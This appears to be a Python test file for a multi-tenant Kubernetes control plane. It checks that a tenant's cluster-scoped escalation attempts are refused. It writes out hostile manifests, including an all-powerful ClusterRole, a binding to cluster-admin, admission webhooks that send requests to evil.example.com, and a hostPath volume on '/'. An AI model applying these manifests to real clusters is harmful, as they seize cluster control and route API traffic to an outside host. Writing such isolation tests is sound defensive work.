"""What belongs to the whole cluster: kinds without a namespace, CRDs, webhooks, and the walls themselves."""

from typing import Any

from tests.behaviour.cluster import Body
from tests.isolation.attack import MALLORY, ByGit, ByRequest, Loot, Stopped, Wall, each_by_git, each_request
from tests.isolation.field import AS_POD, AS_TENANT, MEMBER_OF_MALLORY, Field

FAMILY = "cluster-scoped"
RBAC, ADMISSION = "rbac.authorization.k8s.io/v1", "admissionregistration.k8s.io/v1"


def body(api_version: str, kind: str, name: str = "stolen", **parts: Any) -> Body:
    return {"apiVersion": api_version, "kind": kind, "metadata": {"name": name}, **parts}


EVERYTHING = [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]
ADMIN = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}
ITSELF = [{"kind": "ServiceAccount", "name": MALLORY, "namespace": "controlplane-tenants"}]
HOOK = {
    "name": "stolen.example.com",
    "clientConfig": {"url": "https://evil.example.com"},
    "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*"]}],
    "sideEffects": "None",
    "admissionReviewVersions": ["v1"],
}
CRD = body(
    "apiextensions.k8s.io/v1",
    "CustomResourceDefinition",
    "loots.evil.example.com",
    spec={
        "group": "evil.example.com",
        "scope": "Cluster",
        "names": {"plural": "loots", "singular": "loot", "kind": "Loot"},
        "versions": [
            {"name": "v1", "served": True, "storage": True, "schema": {"openAPIV3Schema": {"type": "object"}}}
        ],
    },
)
PERMISSIVE = {"failurePolicy": "Fail", "matchConstraints": {}, "validations": [{"expression": "true"}]}
AGGREGATED = body(RBAC, "ClusterRole", rules=EVERYTHING)
AGGREGATED["metadata"]["labels"] = {"controlplane.dev/aggregate-to-tenant": "true"}
DISGUISED = body(RBAC, "ClusterRole", rules=EVERYTHING)
DISGUISED["metadata"]["namespace"] = MALLORY
WRITTEN = {
    "a ClusterRole of everything": body(RBAC, "ClusterRole", rules=EVERYTHING),
    "a ClusterRole with a namespace written on it": DISGUISED,
    "a ClusterRole that adds itself to the tenants' role": AGGREGATED,
    "the tenants' own ClusterRole": body(RBAC, "ClusterRole", "controlplane-tenant", rules=EVERYTHING),
    "a ClusterRoleBinding of itself to cluster-admin": body(RBAC, "ClusterRoleBinding", roleRef=ADMIN, subjects=ITSELF),
    "a CRD": CRD,
    "a validating webhook": body(ADMISSION, "ValidatingWebhookConfiguration", webhooks=[HOOK]),
    "a mutating webhook": body(ADMISSION, "MutatingWebhookConfiguration", webhooks=[HOOK]),
    "an admission policy": body(ADMISSION, "ValidatingAdmissionPolicy", spec=PERMISSIVE),
    "the agent's admission policy": body(
        ADMISSION, "ValidatingAdmissionPolicy", "controlplane-agent-ground", spec=PERMISSIVE
    ),
    "an APIService": body(
        "apiregistration.k8s.io/v1", "APIService", "v1.evil.example.com", spec={"group": "evil.example.com"}
    ),
    "a PersistentVolume on the host": body("v1", "PersistentVolume", spec={"hostPath": {"path": "/"}}),
    "a PriorityClass": body("scheduling.k8s.io/v1", "PriorityClass", value=1_000_000),
    "a StorageClass": body("storage.k8s.io/v1", "StorageClass", provisioner="evil.example.com"),
    "a Node": body("v1", "Node"),
    "a signing request": body("certificates.k8s.io/v1", "CertificateSigningRequest", spec={"request": ""}),
    "a FlowSchema": body("flowcontrol.apiserver.k8s.io/v1", "FlowSchema", spec={}),
    "an IngressClass": body("networking.k8s.io/v1", "IngressClass", spec={"controller": "evil.example.com"}),
    "a RuntimeClass": body("node.k8s.io/v1", "RuntimeClass", handler="evil"),
}
LOOTED = {"ClusterRole": "stolen", "CustomResourceDefinition": "loots.evil.example.com"}
GIT_ATTACKS = tuple(
    ByGit(
        name,
        Wall.HUB_GATE,
        "ClusterScopedDenied",
        {"a.yaml": each},
        loot=tuple(Loot("east", kind, loot) for kind, loot in LOOTED.items()),
    )
    for name, each in WRITTEN.items()
)


def request(name: str, who: tuple[str, ...], cluster: str, *command: str, made: Body | None = None) -> ByRequest:
    command = command or ("create", "--validate=false", "-f", "-")
    return ByRequest(name, Wall.KUBERNETES, cluster, who, command, "orbidden", made)


DELETED = (
    "validatingadmissionpolicybinding/controlplane-agent-namespaces",
    "clusterrole/controlplane-tenant",
    "customresourcedefinition/nothing",
)
REQUESTS = (
    *(
        request(f"as the tenant: {name}", AS_TENANT, "east", made=each)
        for name, each in WRITTEN.items()
        if name != "a Node"
    ),
    *(request(f"as a pod: delete {what}", AS_POD, "east", "delete", what) for what in DELETED),
    *(
        request(f"on the hub: {name}", MEMBER_OF_MALLORY, "hub", made=WRITTEN[name])
        for name in ("a ClusterRole of everything", "a CRD", "a mutating webhook", "an admission policy")
    ),
    request(
        "on the hub: delete its admission policies",
        MEMBER_OF_MALLORY,
        "hub",
        "delete",
        "validatingadmissionpolicies",
        "--all",
    ),
    request(
        "on the hub: change the hub's settings",
        MEMBER_OF_MALLORY,
        "hub",
        "patch",
        "configmap/controlplane",
        "-n",
        "controlplane-system",
        "-p",
        '{"data":{"git.allowFile":"true"}}',
    ),
    request(
        "on a member: hand over kube-system",
        AS_TENANT,
        "east",
        "patch",
        "configmap/controlplane-agent",
        "-n",
        "controlplane-system",
        "-p",
        '{"data":{"adopt-namespaces":"kube-system"}}',
    ),
)


@each_by_git(FAMILY, GIT_ATTACKS)
async def test_by_git(mounted: Field, slug: str, attack: ByGit, stopped: Stopped) -> None:
    stopped(attack.name, *await mounted.refused(slug, attack))


@each_request(REQUESTS)
async def test_by_request(mounted: Field, attack: ByRequest, stopped: Stopped) -> None:
    stopped(attack.name, *await mounted.request_refused(attack))
